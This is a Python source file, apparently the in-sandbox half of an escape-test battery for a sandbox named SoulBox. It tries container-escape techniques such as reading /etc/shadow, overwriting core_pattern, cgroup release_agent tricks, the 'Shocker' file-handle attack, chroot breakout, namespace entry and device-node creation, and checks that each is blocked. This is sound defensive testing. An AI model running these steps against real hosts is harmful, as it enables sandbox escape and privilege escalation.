"""Attacks run *inside* a SoulBox sandbox by the escape battery (see README.md).

Standard library only (the base template's python3). Usage:

    python3 probes.py NAME [HEX-OF-JSON-ARGS]

prints one JSON object: ``{"steps": {step: result}, "data": {...}}``. A step is one attempt
that must fail; its result is ``"ok"`` if the kernel let it through, else the errno name
("EPERM", "ENOENT", ...) or a short reason. ``data`` carries observations the host side checks
(contents, inode numbers, counts). The host decides what is an escape: this file only tries.
The arguments are hex-encoded so that the markers the probes look for never appear in clear in
any command line or environment (`sudo` copies the command into `SUDO_COMMAND`).
"""

from __future__ import annotations

import ctypes
import ctypes.util
import errno
import json
import os
import resource
import signal
import socket
import stat
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

# x86_64 system call numbers.
NR = {
    "ptrace": 101, "syslog": 103, "pivot_root": 155, "adjtimex": 159, "chroot": 161,
    "acct": 163, "settimeofday": 164, "mount": 165, "umount2": 166, "swapon": 167,
    "swapoff": 168, "reboot": 169, "sethostname": 170, "setdomainname": 171, "iopl": 172,
    "ioperm": 173, "init_module": 175, "delete_module": 176, "clock_settime": 227,
    "kexec_load": 246, "add_key": 248, "request_key": 249, "keyctl": 250, "unshare": 272,
    "perf_event_open": 298, "fanotify_init": 300, "name_to_handle_at": 303,
    "open_by_handle_at": 304, "clock_adjtime": 305, "setns": 308, "process_vm_readv": 310,
    "finit_module": 313, "kexec_file_load": 320, "bpf": 321, "userfaultfd": 323,
    "io_uring_setup": 425, "open_tree": 428, "move_mount": 429, "fsopen": 430, "fsmount": 432,
    "fspick": 433, "pidfd_open": 434, "clone3": 435, "mount_setattr": 442, "clone": 56,
    "kill": 62, "mknod": 133, "personality": 135, "lookup_dcookie": 212, "quotactl": 179,
}

CLONE_NEW = {
    "user": 0x10000000, "mnt": 0x00020000, "pid": 0x20000000, "net": 0x40000000,
    "uts": 0x04000000, "ipc": 0x08000000, "cgroup": 0x02000000, "time": 0x00000080,
}


def ename(e: int) -> str:
    return errno.errorcode.get(e, f"errno {e}")


def arg(a):
    if isinstance(a, int):
        return ctypes.c_long(a)
    if isinstance(a, str):
        return ctypes.c_char_p(a.encode())
    if isinstance(a, bytes):
        return ctypes.c_char_p(a)
    if a is None:
        return ctypes.c_void_p(0)
    return a  # a ctypes object or byref()


def sys_call(name: str, *args) -> tuple[int, str]:
    """Raw syscall: (return value, "ok" or errno name)."""
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(NR[name]), *[arg(a) for a in args])
    if r < 0:
        return r, ename(ctypes.get_errno())
    return r, "ok"


def sc(name: str, *args) -> str:
    return sys_call(name, *args)[1]


def attempt(fn) -> str:
    """Runs fn; "ok" if it returned, else the errno name of the OSError it raised."""
    try:
        fn()
        return "ok"
    except OSError as e:
        return ename(e.errno) if e.errno else str(e)[:80]
    except ValueError as e:  # Python's own refusal (e.g. raising a hard rlimit)
        return f"refused: {e}"[:80]


def in_child(fn, timeout: float = 10.0) -> str:
    """Runs fn in a forked child (for calls that change the caller: chroot, setns, unshare);
    the child's exit code 0 means fn succeeded."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            out = fn()
        except BaseException as e:  # noqa: BLE001 - report anything to the parent
            out = f"exception {e!r}"[:200]
        os.write(w, (out or "ok").encode()[:4000])
        os._exit(0)
    os.close(w)
    deadline = time.time() + timeout
    while time.time() < deadline:
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            break
        time.sleep(0.02)
    else:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        os.close(r)
        return "timeout"
    data = os.read(r, 4096).decode(errors="replace")
    os.close(r)
    if os.WIFSIGNALED(status):
        return f"killed by signal {os.WTERMSIG(status)}"
    return data or "no answer"


def read_bytes(path: str, n: int = 64) -> bytes:
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
    try:
        return os.read(fd, n)
    finally:
        os.close(fd)


def pids() -> list[int]:
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())


def cmdline(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().replace(b"\0", b" ").decode(errors="replace").strip()
    except OSError:
        return ""


# --------------------------------------------------------------------------- the probes
# Each takes the JSON args (a dict) and returns {"steps": {...}, "data": {...}}.

def p_read_shadow(a):
    steps, data = {}, {}
    try:
        with open("/etc/shadow", "rb") as f:
            content = f.read()
        steps["read /etc/shadow"] = "ok"
        import hashlib
        data["sha256"] = hashlib.sha256(content).hexdigest()
        data["first_line"] = content.split(b"\n", 1)[0].decode(errors="replace")
        data["users"] = [ln.split(b":", 1)[0].decode() for ln in content.splitlines() if ln]
    except OSError as e:
        steps["read /etc/shadow"] = ename(e.errno)
    return {"steps": {}, "data": {**data, "read": steps["read /etc/shadow"]}}


def p_proc_root_walk(a):
    """Every /proc/*/root and /proc/*/cwd (and .. above them): does any lead to the host?"""
    victim = a["victim"]
    steps, found, roots = {}, [], set()
    for pid in pids():
        for link in ("root", "cwd"):
            base = f"/proc/{pid}/{link}"
            for suffix in ("", "/..", "/../..", "/../../../.."):
                path = f"{base}{suffix}{victim}"
                try:
                    with open(path, "rb") as f:
                        found.append((path, f.read(200).decode(errors="replace")))
                except OSError:
                    pass
            try:
                roots.add(" ".join(sorted(os.listdir(base))))
            except OSError:
                pass
    steps["open the host victim file through /proc/*/root|cwd"] = "ok" if found else "ENOENT"
    return {"steps": steps, "data": {"found": found, "root_listings": sorted(roots)}}


def p_host_environ(a):
    marker = a["marker"]
    hits, pid1 = [], ""
    for pid in pids():
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                env = f.read().decode(errors="replace")
        except OSError:
            continue
        if pid == 1:
            pid1 = env.replace("\0", " ")
        if marker in env:
            hits.append(pid)
    steps = {"find the server's environment in any /proc/*/environ": "ok" if hits else "not found"}
    return {"steps": steps, "data": {"pid1_environ": pid1}}


def p_kernel_memory(a):
    steps = {}
    for path in ("/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port", "/proc/kmsg", "/dev/kmsg",
                 "/proc/vmcore", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/loop0",
                 "/dev/loop-control", "/dev/userfaultfd", "/dev/net/tun", "/dev/kvm", "/dev/vsock",
                 "/dev/console", "/dev/tty0", "/dev/fuse"):
        steps[f"read {path}"] = attempt(lambda p=path: read_bytes(p, 1) or True)
    return {"steps": steps, "data": {}}


def write_text(path: str, text: str) -> None:
    with open(path, "w") as f:
        f.write(text)


def p_sysfs(a):
    """/sys is the sandbox's own read-only sysfs (its network namespace's, firmware masked, its
    own cgroups at /sys/fs/cgroup): reading it is fine; changing anything, seeing firmware or
    host interfaces, or mounting another sysfs is an escape."""
    steps = {}
    data = {"/sys": sorted(os.listdir("/sys")) if os.path.isdir("/sys") else None}

    firmware = os.listdir("/sys/firmware") if os.path.isdir("/sys/firmware") else []
    data["/sys/firmware"] = firmware
    steps["see the host's firmware in /sys/firmware"] = "ok" if firmware else "masked"
    steps["read EFI variables"] = attempt(lambda: os.listdir("/sys/firmware/efi/efivars"))
    nets = sorted(os.listdir("/sys/class/net")) if os.path.isdir("/sys/class/net") else []
    data["/sys/class/net"] = nets
    steps["see host interfaces in /sys/class/net"] = (
        "ok" if any(n not in ("lo", "eth0") for n in nets) else "only its own")
    for path, text in (("/sys/kernel/mm/ksm/run", "1"), ("/sys/kernel/uevent_helper", "/tmp/pwn"),
                       ("/sys/kernel/kexec_crash_size", "0"), ("/sys/power/state", "mem"),
                       ("/sys/class/net/lo/mtu", "1280"), ("/sys/module/kernel/parameters/panic", "1")):
        steps[f"write {path}"] = attempt(lambda p=path, t=text: write_text(p, t))
    steps["mkdir in /sys/fs/cgroup"] = attempt(lambda: os.mkdir("/sys/fs/cgroup/escape"))
    os.makedirs("/tmp/sysmnt", exist_ok=True)
    steps["mount sysfs"] = sc("mount", "sysfs", "/tmp/sysmnt", "sysfs", 0, None)
    return {"steps": steps, "data": data}


def p_mount(a):
    os.makedirs("/tmp/mnt", exist_ok=True)
    MS_BIND, MS_REC, MS_REMOUNT, MS_RDONLY = 4096, 16384, 32, 1
    steps = {
        "mount tmpfs": sc("mount", "none", "/tmp/mnt", "tmpfs", 0, None),
        "mount proc": sc("mount", "proc", "/tmp/mnt", "proc", 0, None),
        "mount devtmpfs": sc("mount", "devtmpfs", "/tmp/mnt", "devtmpfs", 0, None),
        "mount cgroup (v1 memory)": sc("mount", "cgroup", "/tmp/mnt", "cgroup", 0, "memory"),
        "mount cgroup2": sc("mount", "cgroup2", "/tmp/mnt", "cgroup2", 0, None),
        "mount binfmt_misc": sc("mount", "binfmt_misc", "/tmp/mnt", "binfmt_misc", 0, None),
        "mount debugfs": sc("mount", "debugfs", "/tmp/mnt", "debugfs", 0, None),
        "mount securityfs": sc("mount", "securityfs", "/tmp/mnt", "securityfs", 0, None),
        "mount overlay": sc("mount", "overlay", "/tmp/mnt", "overlay", 0, "lowerdir=/etc:/usr"),
        "bind-mount /": sc("mount", "/", "/tmp/mnt", None, MS_BIND | MS_REC, None),
        "remount / read-only": sc("mount", None, "/", None, MS_REMOUNT | MS_RDONLY, None),
        "fsopen tmpfs": sc("fsopen", "tmpfs", 0),
        "open_tree / (clone)": sc("open_tree", -100, "/", 1 | 0x80000),
        "fspick /": sc("fspick", -100, "/", 0),
        "mount(8) tmpfs": "ok" if os.system("mount -t tmpfs none /tmp/mnt 2>/dev/null") == 0 else "failed",
    }
    return {"steps": steps, "data": {}}


def p_umount(a):
    MNT_DETACH = 2
    steps = {}
    for target in ("/proc", "/dev", "/dev/pts", "/dev/shm", "/.soulbox/bin/soulbox", "/"):
        steps[f"umount {target}"] = sc("umount2", target, MNT_DETACH)
    return {"steps": steps, "data": {}}


def p_pivot_root(a):
    os.makedirs("/tmp/newroot/old", exist_ok=True)
    steps = {
        "pivot_root to /tmp/newroot": sc("pivot_root", "/tmp/newroot", "/tmp/newroot/old"),
        "pivot_root . .": in_child(lambda: (os.chdir("/tmp/newroot"), sc("pivot_root", ".", "."))[1]),
        "pivot_root(8)": "ok" if os.system("pivot_root /tmp/newroot /tmp/newroot/old 2>/dev/null") == 0 else "failed",
    }
    return {"steps": steps, "data": {}}


def p_unshare(a):
    steps = {}
    for name, flag in CLONE_NEW.items():
        steps[f"unshare(CLONE_NEW{name.upper()})"] = in_child(lambda f=flag: sc("unshare", f))

    def clone_newuser():
        r, err = sys_call("clone", CLONE_NEW["user"] | signal.SIGCHLD, 0, 0, 0, 0)
        if r == 0:
            os._exit(0)
        if r > 0:
            os.waitpid(r, 0)
        return err

    steps["clone(CLONE_NEWUSER)"] = in_child(clone_newuser)

    def clone3_newuser():
        args = (ctypes.c_uint64 * 11)()
        args[0] = CLONE_NEW["user"]
        args[4] = signal.SIGCHLD
        r, err = sys_call("clone3", ctypes.byref(args), ctypes.sizeof(args))
        if r == 0:
            os._exit(0)
        if r > 0:
            os.waitpid(r, 0)
        return err

    steps["clone3(CLONE_NEWUSER)"] = in_child(clone3_newuser)
    steps["unshare(1) -Ur"] = "ok" if os.system("unshare -Ur true 2>/dev/null") == 0 else "failed"
    steps["unshare(1) -m"] = "ok" if os.system("unshare -m true 2>/dev/null") == 0 else "failed"
    return {"steps": steps, "data": {}}


def ns_links() -> list[str]:
    out = []
    for pid in pids():
        try:
            for ns in os.listdir(f"/proc/{pid}/ns"):
                out.append(f"/proc/{pid}/ns/{ns}")
        except OSError:
            pass
    return out


def p_setns(a):
    """setns() on every namespace reachable: /proc/*/ns/* and every nsfs descriptor any process
    holds (a descriptor "smuggled" in through /proc/<pid>/fd)."""
    steps, tried = {}, 0
    targets = ns_links()
    for pid in pids():
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                path = f"/proc/{pid}/fd/{fd}"
                try:
                    link = os.readlink(path)
                except OSError:
                    continue
                if ":[" in link and link.split(":", 1)[0] in ("net", "mnt", "pid", "user", "uts", "ipc", "cgroup", "time"):
                    targets.append(path)
        except OSError:
            pass
    results = {}
    for path in targets:
        def go(p=path):
            fd = os.open(p, os.O_RDONLY)
            return sc("setns", fd, 0)
        r = in_child(go)
        tried += 1
        results.setdefault(r, 0)
        results[r] += 1
        kind = path.rsplit("/", 1)[-1] if "/ns/" in path else "fd"
        key = f"setns {kind}"
        if steps.get(key) != "ok":
            steps[key] = r
    steps["nsenter(1) -t 1 -a"] = "ok" if os.system("nsenter -t 1 -a true 2>/dev/null") == 0 else "failed"
    return {"steps": steps, "data": {"tried": tried, "results": results}}


def p_ns_inodes(a):
    inodes: dict[str, list[int]] = {}
    for path in ns_links():
        try:
            inode = os.stat(path).st_ino
        except OSError:
            continue
        kind = path.rsplit("/", 1)[-1]
        inodes.setdefault(kind, [])
        if inode not in inodes[kind]:
            inodes[kind].append(inode)
    return {"steps": {}, "data": {"inodes": inodes}}


def p_processes(a):
    procs = {pid: cmdline(pid) for pid in pids()}
    steps = {}
    for marker in a.get("markers", []):
        hit = [p for p, c in procs.items() if marker in c]
        steps[f"see a process named {marker!r}"] = "ok" if hit else "not visible"
    for pid in a.get("host_pids", []):
        steps[f"/proc/{pid} of a host process"] = "ok" if os.path.exists(f"/proc/{pid}") and any(
            m in cmdline(pid) for m in a.get("markers", [])) else "ENOENT"
    return {"steps": steps, "data": {"count": len(procs), "procs": procs}}


def p_signal_host(a):
    steps = {}
    visible = set(pids())
    for pid in a["host_pids"]:
        if pid in visible:
            # The same number names a sandbox process here, not the host's: no signal for it.
            steps[f"kill -0 host pid {pid}"] = f"pid {pid} is a sandbox process ({cmdline(pid)})"
            continue
        steps[f"kill -0 host pid {pid}"] = sc("kill", pid, 0)
        steps[f"kill -9 host pid {pid}"] = sc("kill", pid, 9)
        steps[f"ptrace attach host pid {pid}"] = sc("ptrace", 16, pid, 0, 0)
        steps[f"pidfd_open host pid {pid}"] = sc("pidfd_open", pid, 0)
        local = ctypes.create_string_buffer(16)
        liov = (ctypes.c_void_p * 2)(ctypes.cast(local, ctypes.c_void_p), 16)
        riov = (ctypes.c_void_p * 2)(0x400000, 16)
        steps[f"process_vm_readv host pid {pid}"] = sc("process_vm_readv", pid, ctypes.byref(liov), 1, ctypes.byref(riov), 1, 0)
    # kill -9 -1: every process this user may signal, which are sandbox processes only.
    if a.get("kill_all"):
        sc("kill", -1, 9)
    return {"steps": steps, "data": {}}


def p_ptrace_agent(a):
    """PTRACE_ATTACH to the sandbox's PID 1 (the agent, sandbox root)."""
    return {"steps": {"ptrace attach PID 1": in_child(lambda: sc("ptrace", 16, 1, 0, 0))}, "data": {}}


def p_mknod(a):
    S_IFBLK, S_IFCHR = 0o060000, 0o020000
    steps = {}
    devices = [("host root disk", S_IFBLK, a["disk_major"], a["disk_minor"]),
               ("/dev/sda", S_IFBLK, 8, 0), ("/dev/mem", S_IFCHR, 1, 1), ("/dev/kmsg", S_IFCHR, 1, 11),
               ("/dev/port", S_IFCHR, 1, 4), ("/dev/loop-control", S_IFCHR, 10, 237),
               ("/dev/net/tun", S_IFCHR, 10, 200), ("/dev/fuse", S_IFCHR, 10, 229)]
    for d in ("/tmp", "/dev/shm", "/home/user" if os.path.isdir("/home/user") else "/tmp"):
        for label, kind, major, minor in devices:
            path = f"{d}/escape-node"
            try:
                os.unlink(path)
            except OSError:
                pass
            made = attempt(lambda: os.mknod(path, kind | 0o666, os.makedev(major, minor)))
            key = f"mknod {label} in {d}"
            if made == "ok":
                # The kernel let the node exist: opening it must still fail (nodev mounts).
                steps[key + " and open it"] = attempt(lambda: read_bytes(path, 512))
                os.unlink(path)
            else:
                steps[key] = made
    return {"steps": steps, "data": {}}


def p_kernel_modules(a):
    image = ctypes.create_string_buffer(b"\x7fELF" + b"\0" * 60)
    fd = os.open("/bin/true", os.O_RDONLY)
    steps = {
        "init_module": sc("init_module", image, 64, ""),
        "finit_module": sc("finit_module", fd, "", 0),
        "delete_module": sc("delete_module", "ext4", os.O_NONBLOCK),
        "modprobe(8)": "ok" if os.system("modprobe dummy 2>/dev/null") == 0 else "failed",
    }
    os.close(fd)
    return {"steps": steps, "data": {}}


def p_kexec(a):
    fd = os.open("/.soulbox/bin/soulbox", os.O_RDONLY)
    steps = {
        "kexec_load": sc("kexec_load", 0, 0, None, 0),
        "kexec_file_load": sc("kexec_file_load", fd, fd, 1, "", 0),
        "reboot (CAD off)": sc("reboot", 0xFEE1DEAD, 672274793, 0, None),
    }
    os.close(fd)
    return {"steps": steps, "data": {}}


def p_proc_sys_write(a):
    steps = {}
    for name, value in (("kernel/hostname", "pwned"), ("kernel/domainname", "pwned"),
                        ("kernel/core_pattern", "|/tmp/pwn"), ("kernel/modprobe", "/tmp/pwn"),
                        ("kernel/randomize_va_space", "0"), ("kernel/panic", "1"),
                        ("kernel/sysrq", "1"), ("kernel/shmmax", "1"), ("vm/drop_caches", "3"),
                        ("vm/overcommit_memory", "1"), ("fs/file-max", "100"),
                        ("net/ipv4/ip_forward", "1"), ("net/ipv4/ip_unprivileged_port_start", "1024"),
                        ("kernel/unprivileged_bpf_disabled", "0"), ("kernel/perf_event_paranoid", "-1"),
                        ("kernel/kptr_restrict", "0"), ("kernel/dmesg_restrict", "0"),
                        ("user/max_user_namespaces", "100"), ("fs/binfmt_misc/register", ":x:E::x::/tmp/pwn:")):
        path = f"/proc/sys/{name}"

        def write(p=path, v=value):
            with open(p, "w") as f:
                f.write(v)

        steps[f"write {path}"] = attempt(write)
    steps["sysctl(8) -w kernel.hostname"] = "ok" if os.system("sysctl -q -w kernel.hostname=pwned 2>/dev/null") == 0 else "failed"
    return {"steps": steps, "data": {}}


def p_sysrq(a):
    def write():
        with open("/proc/sysrq-trigger", "w") as f:
            f.write("h")
    return {"steps": {"write /proc/sysrq-trigger": attempt(write)}, "data": {}}


def p_hostname(a):
    steps = {
        "sethostname": sc("sethostname", "pwned", 5),
        "setdomainname": sc("setdomainname", "pwned", 5),
        "hostname(1)": "ok" if os.system("hostname pwned 2>/dev/null") == 0 else "failed",
    }
    return {"steps": steps, "data": {"hostname": socket.gethostname()}}


def p_clock(a):
    class Timespec(ctypes.Structure):
        _fields_ = [("sec", ctypes.c_long), ("nsec", ctypes.c_long)]

    class Timeval(ctypes.Structure):
        _fields_ = [("sec", ctypes.c_long), ("usec", ctypes.c_long)]

    later = int(time.time()) + 86400 * 365
    tx = ctypes.create_string_buffer(256)
    struct.pack_into("I", tx, 0, 0x0001 | 0x0002)  # ADJ_OFFSET | ADJ_FREQUENCY
    struct.pack_into("q", tx, 8, 500000)
    steps = {
        "clock_settime(CLOCK_REALTIME)": sc("clock_settime", 0, ctypes.byref(Timespec(later, 0))),
        "settimeofday": sc("settimeofday", ctypes.byref(Timeval(later, 0)), None),
        "adjtimex(ADJ_OFFSET|ADJ_FREQUENCY)": sc("adjtimex", tx),
        "clock_adjtime(CLOCK_REALTIME)": sc("clock_adjtime", 0, tx),
        "date(1) -s": "ok" if os.system("date -s '2001-01-01' >/dev/null 2>&1") == 0 else "failed",
    }
    return {"steps": steps, "data": {}}


def p_dmesg(a):
    buf = ctypes.create_string_buffer(4096)
    steps = {
        "syslog(READ_ALL)": sc("syslog", 3, buf, 4096),
        "syslog(SIZE_BUFFER)": sc("syslog", 10, None, 0),
        "syslog(CONSOLE_OFF)": sc("syslog", 6, None, 0),
        "syslog(CLEAR)": sc("syslog", 5, None, 0),
        "dmesg(1)": "ok" if os.system("dmesg >/dev/null 2>&1") == 0 else "failed",
    }
    return {"steps": steps, "data": {}}


def p_bpf(a):
    # BPF_PROG_LOAD of a socket filter "r0 = 0; exit" and a BPF_MAP_CREATE.
    insns = ctypes.create_string_buffer(struct.pack("<BBhiBBhi", 0xB7, 0, 0, 0, 0x95, 0, 0, 0))
    lic = ctypes.create_string_buffer(b"GPL")
    attr = ctypes.create_string_buffer(128)
    struct.pack_into("<IIQQ", attr, 0, 1, 2, ctypes.addressof(insns), ctypes.addressof(lic))
    mattr = ctypes.create_string_buffer(128)
    struct.pack_into("<IIII", mattr, 0, 2, 4, 4, 1)
    steps = {
        "bpf(BPF_PROG_LOAD)": sc("bpf", 5, attr, 128),
        "bpf(BPF_MAP_CREATE)": sc("bpf", 0, mattr, 128),
    }
    return {"steps": steps, "data": {}}


def p_perf_event_open(a):
    attr = ctypes.create_string_buffer(128)
    struct.pack_into("<IIQ", attr, 0, 1, 128, 0)  # PERF_TYPE_SOFTWARE, size, CPU_CLOCK
    steps = {
        "perf_event_open(self)": sc("perf_event_open", attr, 0, -1, -1, 0),
        "perf_event_open(all cpus)": sc("perf_event_open", attr, -1, 0, -1, 0),
    }
    return {"steps": steps, "data": {}}


def p_userfaultfd(a):
    steps = {
        "userfaultfd()": sc("userfaultfd", os.O_CLOEXEC),
        "userfaultfd(UFFD_USER_MODE_ONLY)": sc("userfaultfd", os.O_CLOEXEC | 1),
        "open /dev/userfaultfd": attempt(lambda: os.close(os.open("/dev/userfaultfd", os.O_RDWR))),
    }
    return {"steps": steps, "data": {}}


def p_keyctl(a):
    KEY_SPEC_PROCESS_KEYRING, KEY_SPEC_SESSION_KEYRING = -2, -3
    steps = {
        "add_key(user)": sc("add_key", "user", "escape", "secret", 6, KEY_SPEC_PROCESS_KEYRING),
        "keyctl(GET_KEYRING_ID)": sc("keyctl", 0, KEY_SPEC_SESSION_KEYRING, 1),
        "keyctl(JOIN_SESSION_KEYRING)": sc("keyctl", 1, "escape"),
        "request_key(user)": sc("request_key", "user", "escape", "callout", 0),
    }
    try:
        with open("/proc/keys") as f:
            keys = f.read()
    except OSError as e:
        keys = ename(e.errno)
    return {"steps": steps, "data": {"proc_keys": keys}}


def p_io_uring(a):
    params = ctypes.create_string_buffer(120)
    return {"steps": {"io_uring_setup": sc("io_uring_setup", 8, params)}, "data": {}}


def p_open_by_handle(a):
    handle = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("<Ii", handle, 0, 128, 0)
    mount_id = ctypes.c_int(0)
    # "Shocker": a file handle naming the root inode (2) of an ext4 filesystem (type 1).
    shocker = ctypes.create_string_buffer(8 + 8)
    struct.pack_into("<IiQ", shocker, 0, 8, 1, 2)
    root = os.open("/", os.O_RDONLY)
    steps = {
        "name_to_handle_at(/etc/passwd)": sc("name_to_handle_at", -100, "/etc/passwd", handle, ctypes.byref(mount_id), 0),
        "open_by_handle_at(root inode 2)": sc("open_by_handle_at", root, shocker, os.O_RDONLY),
    }
    os.close(root)
    return {"steps": steps, "data": {}}


def p_misc_syscalls(a):
    steps = {
        "iopl(3)": sc("iopl", 3),
        "ioperm(0x80)": sc("ioperm", 0x80, 1, 1),
        "swapon": sc("swapon", "/tmp/swapfile", 0),
        "swapoff": sc("swapoff", "/tmp/swapfile"),
        "acct": sc("acct", "/tmp/acct"),
        "quotactl": sc("quotactl", 0x800002, "/dev/vda", 0, None),
        "lookup_dcookie": sc("lookup_dcookie", 0, None, 0),
        "fanotify_init": sc("fanotify_init", 0, 0),
        "personality(READ_IMPLIES_EXEC)": in_child(lambda: sc("personality", 0x0400000)),
    }
    return {"steps": steps, "data": {}}


def p_sockets(a):
    steps = {}
    for label, fam, typ, proto in (("AF_PACKET raw", 17, socket.SOCK_RAW, 0x0300),
                                   ("AF_INET raw", socket.AF_INET, socket.SOCK_RAW, 255),
                                   ("AF_VSOCK", 40, socket.SOCK_STREAM, 0),
                                   ("AF_BLUETOOTH", 31, socket.SOCK_RAW, 0),
                                   ("AF_KEY", 15, socket.SOCK_RAW, 2),
                                   ("AF_ALG", 38, socket.SOCK_SEQPACKET, 0),
                                   ("AF_RDS", 21, socket.SOCK_SEQPACKET, 0),
                                   ("AF_TIPC", 30, socket.SOCK_RDM, 0)):
        steps[f"socket({label})"] = attempt(lambda f=fam, t=typ, p=proto: socket.socket(f, t, p).close())
    return {"steps": steps, "data": {}}


def p_net_config(a):
    """Reconfigure the sandbox's network namespace (owned by the host's user namespace)."""
    import fcntl
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    SIOCSIFFLAGS, SIOCSIFADDR, SIOCADDRT = 0x8914, 0x8916, 0x890B
    ifr = struct.pack("16sH14s", b"lo", 0, b"")
    addr = struct.pack("16sHH4s8s", b"lo", socket.AF_INET, 0, socket.inet_aton("10.9.9.9"), b"")
    steps = {
        "bring lo down": attempt(lambda: fcntl.ioctl(s, SIOCSIFFLAGS, ifr)),
        "set an address on lo": attempt(lambda: fcntl.ioctl(s, SIOCSIFADDR, addr)),
        "add a route": attempt(lambda: fcntl.ioctl(s, SIOCADDRT, b"\0" * 120)),
    }
    s.close()
    return {"steps": steps, "data": {}}


def p_tiocsti(a):
    import fcntl
    import termios
    master, slave = os.openpty()
    steps = {"ioctl(TIOCSTI)": attempt(lambda: fcntl.ioctl(slave, termios.TIOCSTI, b"x"))}
    os.close(master)
    os.close(slave)
    return {"steps": steps, "data": {}}


def p_chroot_escape(a):
    victim = a["victim"]

    def escape():
        os.makedirs("/tmp/jail", exist_ok=True)
        os.chroot("/tmp/jail")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        root = sorted(os.listdir("/"))
        return json.dumps({"root": root, "victim": os.path.exists(victim),
                           "agent": os.path.exists("/.soulbox/bin/soulbox")})

    return {"steps": {}, "data": {"after": in_child(escape)}}


def p_cgroup(a):
    with open("/proc/self/cgroup") as f:
        cg = f.read()
    with open("/proc/self/mountinfo") as f:
        cgroup_mounts = [ln for ln in f.read().splitlines() if " cgroup" in ln]
    os.makedirs("/tmp/cg", exist_ok=True)
    steps = {
        "mount cgroup v1 (rdma, for release_agent)": sc("mount", "cgroup", "/tmp/cg", "cgroup", 0, "rdma"),
        "mount cgroup v1 (memory)": sc("mount", "cgroup", "/tmp/cg", "cgroup", 0, "memory"),
        "mount cgroup2": sc("mount", "cgroup2", "/tmp/cg", "cgroup2", 0, None),
    }
    # /sys/fs/cgroup is the sandbox's own groups, read-only: raising its limits, moving a
    # process or setting a release agent must fail.
    top = "/sys/fs/cgroup"
    dirs = [top] + ([os.path.join(top, d) for d in sorted(os.listdir(top))] if os.path.isdir(top) else [])
    for d in dirs:
        for name in ("memory.max", "memory.limit_in_bytes", "pids.max", "cgroup.procs", "release_agent",
                     "notify_on_release"):
            path = os.path.join(d, name)
            if os.path.isfile(path):
                steps[f"write {path}"] = attempt(lambda p=path: write_text(p, "1"))
    for line in cg.splitlines():
        path = line.split(":", 2)[2]
        steps[f"escape its cgroup ({line.split(':')[1] or 'v2'}) via {path}"] = (
            "ok" if path not in ("/",) else "sees only /")
    return {"steps": steps, "data": {"cgroup": cg, "cgroup_mounts": cgroup_mounts}}


def p_core_pattern(a):
    steps = {}

    def write():
        with open("/proc/sys/kernel/core_pattern", "w") as f:
            f.write("|/tmp/pwn-core %p")

    steps["write core_pattern"] = attempt(write)

    def crash():
        _, hard = resource.getrlimit(resource.RLIMIT_CORE)
        resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
        os.chdir("/tmp")
        os.kill(os.getpid(), signal.SIGSEGV)
        return "survived"

    data = {"crash": in_child(crash)}
    return {"steps": steps, "data": data}


def p_agent_binary(a):
    path = "/.soulbox/bin/soulbox"
    MS_BIND = 4096
    steps = {
        "open the agent binary for writing": attempt(lambda: os.close(os.open(path, os.O_WRONLY))),
        "truncate it": attempt(lambda: os.truncate(path, 0)),
        "chmod it": attempt(lambda: os.chmod(path, 0o777)),
        "unlink it": attempt(lambda: os.unlink(path)),
        "rename over it": attempt(lambda: (open("/tmp/fake-agent", "w").close(), os.rename("/tmp/fake-agent", path))),
        "bind-mount over it": sc("mount", "/bin/true", path, None, MS_BIND, None),
        "unmount it": sc("umount2", path, 2),
    }
    return {"steps": steps, "data": {}}


def p_agent_socket(a):
    steps, found = {}, []
    for top in ("/", ):
        for dirpath, dirnames, filenames in os.walk(top):
            if dirpath in ("/proc", "/sys", "/dev"):
                dirnames[:] = []
                continue
            for name in filenames:
                p = os.path.join(dirpath, name)
                try:
                    if stat.S_ISSOCK(os.lstat(p).st_mode):
                        found.append(p)
                except OSError:
                    pass
    steps["find a host agent socket in the filesystem"] = "ok" if any("agent.sock" in p for p in found) else "none"

    def connect(path):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(3)
        try:
            s.connect(path)
        finally:
            s.close()

    for path in a.get("host_paths", []) + ["/proc/1/fd/3"]:
        steps[f"connect {path}"] = attempt(lambda p=path: connect(p))
    return {"steps": steps, "data": {"sockets": found}}


def p_run_e2b(a):
    """Tamper with /run/e2b (read by nothing on the host); the host checks it does not care."""
    import shutil
    steps = {}
    results = {
        "overwrite .E2B_SANDBOX_ID": attempt(lambda: open("/run/e2b/.E2B_SANDBOX_ID", "w").write(a["other_id"])),
        "replace /run/e2b with a symlink to /etc": attempt(
            lambda: (shutil.rmtree("/run/e2b"), os.symlink("/etc", "/run/e2b"))),
    }
    return {"steps": steps, "data": results}


def p_ipc(a):
    IPC_CREAT = 0o1000
    libc.shmget.restype = ctypes.c_int
    libc.msgget.restype = ctypes.c_int
    libc.semget.restype = ctypes.c_int

    def call(fn, *args):
        ctypes.set_errno(0)
        r = fn(*args)
        return "ok" if r >= 0 else ename(ctypes.get_errno())

    key = a["key"]
    steps = {
        "shmget the neighbour's key": call(libc.shmget, key, 0, 0),
        "msgget the neighbour's key": call(libc.msgget, key, 0),
        "semget the neighbour's key": call(libc.semget, key, 0, 0),
    }
    with open("/proc/sysvipc/shm") as f:
        shm = f.read().splitlines()[1:]
    with open("/proc/sysvipc/msg") as f:
        msg = f.read().splitlines()[1:]
    steps["list SysV segments/queues of others"] = "ok" if (shm or msg) else "none visible"
    if a.get("plant"):
        steps = {"plant shm": call(libc.shmget, key, 4096, IPC_CREAT | 0o666),
